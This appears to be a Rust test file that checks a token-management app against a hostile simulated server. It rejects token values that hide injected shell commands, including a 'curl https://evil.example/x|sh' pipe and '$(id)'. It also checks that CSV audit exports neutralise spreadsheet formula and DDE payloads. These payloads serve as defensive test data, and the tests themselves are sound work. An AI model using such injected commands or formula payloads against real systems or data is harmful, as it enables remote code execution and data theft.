//! A hostile server: what it answers is untrusted input. A token value of any shape but the
//! documented one is neither shown nor copied, and text it controls never becomes a
//! spreadsheet formula in an export. Against the simulator over TLS, with its faults.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test states its expectations by panicking"
)]

mod common;

use std::sync::Arc;
use std::sync::atomic::AtomicBool;

use common::World;
use desk_core::queries::{AuditRole, TokenListQuery};
use desk_core::{AuditExportScope, CopyFormat, ErrorKind, ExportFormat};
use marketplace_sim::{AccountKind, CallOrigin, FaultAction, FaultRule, FaultWhen};

#[tokio::test]
async fn a_value_not_of_the_documented_shape_is_neither_shown_nor_copied() {
    let world = World::new(3).await;
    let connection = world.connect(AccountKind::Vendor).await;
    let list = world.desk.list_tokens(&connection.id, &TokenListQuery::default()).await.expect("list");
    let token = list.items.iter().find(|t| t.id != connection.token_id).expect("a token").id.clone();
    let good = world.desk.reveal_token_value(&connection.id, &token).await.expect("a real value shows");

    for poison in [
        format!("idt:{token}:x;curl https://evil.example/x|sh"),
        format!("idt:{token}:abc def"),
        format!("idt:{token}:abc'$(id)'"),
        // The right shape, for another token.
        good.replacen(&token, "TKN-9999-9999", 1),
        String::from("not a token at all"),
    ] {
        world.sim.faults().clear();
        world.sim.faults().add(FaultRule {
            method: Some("GET".into()),
            path: Some("/public/v1/accounts/api-tokens".into()),
            action: FaultAction::PoisonTokenValues { value: poison.clone() },
            when: FaultWhen::Always,
        });
        let error = world.desk.reveal_token_value(&connection.id, &token).await.expect_err(&poison);
        assert_eq!(error.kind, ErrorKind::Server, "{poison}");
        assert!(error.message.contains("not shaped like a token value"), "{}", error.message);
        assert!(!error.message.contains("evil") && !error.message.contains("$(id)"), "{}", error.message);
        for format in [CopyFormat::Value, CopyFormat::AuthorizationHeader, CopyFormat::ShellExport, CopyFormat::Curl] {
            let error = world.desk.copy_token(&connection.id, &token, format).await.expect_err(&poison);
            assert_eq!(error.kind, ErrorKind::Server, "{format:?}");
        }
        assert_eq!(world.clipboard.content(), None, "nothing reached the clipboard");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_user_agent_written_as_a_formula_is_exported_as_text() {
    let world = World::new(3).await;
    let connection = world.connect(AccountKind::Vendor).await;
    let list = world.desk.list_tokens(&connection.id, &TokenListQuery::default()).await.expect("list");
    let token = list.items.iter().find(|t| t.id != connection.token_id).expect("a token").id.clone();
    let formulas = ["=HYPERLINK(\"https://x/?\"&G2,\"details\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"];
    for agent in formulas {
        let origin = CallOrigin {
            ip: "192.0.2.7".into(),
            user_agent: agent.into(),
            country_code: "GB".into(),
            country_name: "United Kingdom".into(),
            region: "England".into(),
        };
        assert!(world.sim.record_token_activity(&token, &origin));
    }

    let dir = tempfile::tempdir().expect("dir");
    let path = dir.path().join("trail.csv");
    let scope = AuditExportScope::Token { token_id: token.clone(), role: AuditRole::Actor };
    let cancel = Arc::new(AtomicBool::new(false));
    world
        .desk
        .export_audit_until(&connection.id, &scope, ExportFormat::Csv, &path, &cancel, |_| {})
        .await
        .expect("export");

    let mut reader = csv::Reader::from_path(&path).expect("the CSV reads back");
    let agents: Vec<String> =
        reader.records().map(|record| record.expect("a row").get(5).unwrap_or_default().to_owned()).collect();
    for agent in formulas {
        assert!(agents.contains(&format!("'{agent}")), "{agent} not neutralised in {agents:?}");
    }
    assert!(
        agents.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])),
        "no cell a spreadsheet would run: {agents:?}"
    );
}
